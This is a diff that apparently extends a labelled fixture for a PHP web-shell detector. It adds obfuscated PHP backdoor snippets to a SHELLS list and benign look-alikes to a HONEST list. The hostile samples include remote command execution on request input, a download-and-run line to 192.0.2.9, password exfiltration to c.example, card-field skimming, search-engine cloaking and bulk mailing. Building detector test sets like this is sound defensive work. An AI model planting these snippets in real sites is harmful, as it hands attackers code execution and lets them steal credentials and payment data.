@@ -92,6 +92,35 @@ SHELLS = {
     "key of a login": "file_put_contents('/srv/www/.ssh/authorized_keys', 'ssh-rsa AAAA x', FILE_APPEND);",
     "table of times": f"file_put_contents('/tmp/.c', 'x'); {EXECUTE}('crontab /tmp/.c');",
     "program unpacked and started": f"file_put_contents('/dev/shm/k', base64_decode('f0VMRgIBAQ==')); {EXECUTE}('/dev/shm/k &');",
+    "taken along by reference": "$c = getallheaders(); $f = $c['f'] ?: 'trim'; $a = $c['a']; "
+    "$go = function () use (&$f, &$a) { return $f($a); }; $go();",
+    "items by reference": f"foreach ($_POST['l'] as &$v) {{ {RUN}($v); }}",
+    "variable of a name that grows": "$a = ([] . '')[0]; for ($i = 0; $i < 6; $i++) { $a++; } $v = ${'_' . $a . 'ET'}; "
+    "$v['f']($v['a']);",
+    "name out of its own comment": "$m = file(__FILE__)[1]; $f = str_replace('-', '', substr($m, 4, 11)); $f($_COOKIE['n']);",
+    "newest upload": "$c = array_filter(glob(sys_get_temp_dir() . '/php*'), 'is_file'); "
+    "foreach (array_slice($c, 0, 1) as $f) { include_once $f; }",
+    "any property": "class S { public $e = 'trim'; public $l = ''; function run() { return ($this->e)($this->l); } } "
+    "$s = new S; foreach ($_POST as $k => $x) { $s->$k = $x; } $s->run();",
+    "item of an object": f"class R implements ArrayAccess {{ public function offsetGet($o): mixed {{ return {EVALUATE}($o); }} }} "
+    "$r = new R; $r[$_POST['k']];",
+    "bound": "$m = function () { return Closure::fromCallable($_GET['f']); }; $f = Closure::bind($m, null)(); $f($_GET['c']);",
+    "attribute": f"class A {{ public function __construct(public string $h) {{}} }} #[A('{RUN[:3]}' . '{RUN[3:]}')] class F {{}} "
+    "$h = (new ReflectionClass('F'))->getAttributes()[0]->newInstance()->h; $h($_POST['i']);",
+    "database's own name": "$d->createFunction('go', $_POST['fn'] ?? 'strlen');",
+    "fetched by a long line": f"$u = 'http://192.0.2.9/b'; {EXECUTE}(\"wget -O m $u || curl -o m $u; cd ..; sh m\");",
+    "resident": f"{EXECUTE}('nohup php -r ' . escapeshellarg($c) . ' &');",
+    "search engines by their address": "if (preg_match('/(googlebot|google)/', gethostbyaddr($ip))) "
+    "{ $c = curl_init('http://z.example/'); exit(curl_exec($c)); }",
+    "mail by an uploaded list": "foreach (file($_FILES['l']['tmp_name']) as $to) "
+    "{ mail($to, 'x', preg_replace_callback('/a/', fn() => 'b', $_POST['t'])); }",
+    "password in an address": "file_get_contents('https://c.example/?d=' . rawurlencode(base64_encode($_POST['pwd'])));",
+    "cards by a pattern": "$w = preg_grep('/card|cvv/', array_keys($_POST)); file_put_contents('img/s.gif', "
+    "json_encode(array_intersect_key($_POST, array_flip($w))), FILE_APPEND);",
+    "server's variables handed on": f"function ev(array $s) {{ return {EVALUATE}($s['HTTP_X_F']); }} ev($_SERVER);",
+    "put together and renamed": "$b = sys_get_temp_dir() . md5(__DIR__); file_put_contents($b, $_POST['p']); "
+    "rename($b, __DIR__ . '/' . $_POST['n']);",
+    "shared memory": f"shmop_write($i, $_POST['m'], 0); {EVALUATE}(rtrim(shmop_read($i, 0, 40)));",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
@@ -128,6 +157,14 @@ HONEST = {
     "function go() { return $this->a + 1; } } (new W)->go();",
     "summed up": "echo array_reduce($_POST['n'], function ($c, $i) { return $c + (int) $i; }, 0);",
     "own log": "file_put_contents('/srv/log/a.log', 'crontab was read', FILE_APPEND);",
+    "tile of a map": "[$z, $x] = array_map('intval', [$_GET['z'], $_GET['x']]); $f = __DIR__ . \"/tiles/$z-$x.png\"; "
+    'file_put_contents($f, file_get_contents("https://maps.example/$z/$x.png"));',
+    "command with an encoded address": f"{EXECUTE}('/usr/bin/indexer --url=' . rawurlencode($_GET['u']));",
+    "cache in a temporary folder": "$f = sys_get_temp_dir() . '/site/' . md5($k) . '.php'; if (is_file($f)) { include $f; }",
+    "item of a collection": "class R implements ArrayAccess { public function offsetGet($o): mixed { return $this->d[$o]; } } "
+    "$r = new R; echo $r[$_POST['k']];",
+    "request made of the server's variables": "class Q { public function __construct(private array $s) {} "
+    "public function ip() { return $this->s['REMOTE_ADDR']; } } (new Q($_SERVER))->ip();",
     "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
 }
 
